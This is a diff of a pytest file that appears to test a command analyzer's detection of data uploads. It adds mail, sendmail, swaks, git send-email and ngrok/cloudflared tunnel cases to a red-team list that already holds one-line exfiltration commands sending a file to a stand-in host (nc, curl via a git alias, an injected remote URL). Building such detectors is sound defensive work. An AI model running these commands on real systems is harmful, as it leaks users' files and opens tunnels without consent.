@@ -117,6 +117,8 @@ REDTEAM2_UPLOADS = [
     "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.r.url GIT_CONFIG_VALUE_0=https://h git push r",
     "git ls-remote \"https://h/$(cat f)\"", "echo h | xargs -I@ sh -c 'nc @ 80 < f'", "http POST https://h/ @f",
     "http https://h/ a=1", "cat f | http https://h/", "git -c alias.x='!curl -d @f https://h' x",
+    "git send-email --to a@b HEAD^", "mail -s x a@b < f", "sendmail a@b < f", "swaks --to a@b --attach f",
+    "ngrok http 8000", "cloudflared tunnel --url http://localhost:8000",
 ]
 
 
@@ -128,7 +130,8 @@ def test_redteam2_uploads_are_uploads(cmd: str) -> None:
 @pytest.mark.parametrize("cmd", [
     "curl \"$API_URL/x\"", "curl -sSfL https://example.com/i.sh -o /tmp/i.sh", "dig example.com", "ping -c 3 localhost",
     "http https://h/x", "http GET https://h/x q==1 X-A:b", "git fetch origin", "nslookup example.com",
-    "for f in src/*.py; do curl -s https://h/ping; done", "read -p x ans; echo $ans",
+    "for f in src/*.py; do curl -s https://h/ping; done", "read -p x ans; echo $ans", "ngrok version",
+    "git send-email --dry-run --to a@b HEAD^", "mail --help",
 ])
 def test_downloads_and_lookups_stay_what_they_were(cmd: str) -> None:
     assert "upload" not in analyze(cmd).risks, analyze(cmd)
